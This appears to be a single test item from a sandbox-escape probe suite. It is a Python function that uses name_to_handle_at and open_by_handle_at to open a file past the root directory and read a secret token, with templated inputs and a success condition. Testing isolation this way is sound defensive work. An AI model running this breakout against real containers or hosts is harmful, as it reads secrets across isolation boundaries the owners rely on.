#: tries = "open a file by its handle, past the root directory (needs root)"
#: inputs = [["{secret_path}", "{root}"]]
#: wins = ["{token}"]
#: prelude = "libc"


def f(path, root):
    handle = (ctypes.c_uint * 34)(128)
    mount = ctypes.c_int()
    call("name_to_handle_at", -100, path.encode(), handle, ctypes.byref(mount), 0)
    here = os.open(root, os.O_RDONLY)
    fd = call("open_by_handle_at", here, handle, 0)
    os.close(here)
    text = os.read(fd, 100).decode()
    os.close(fd)
    return text
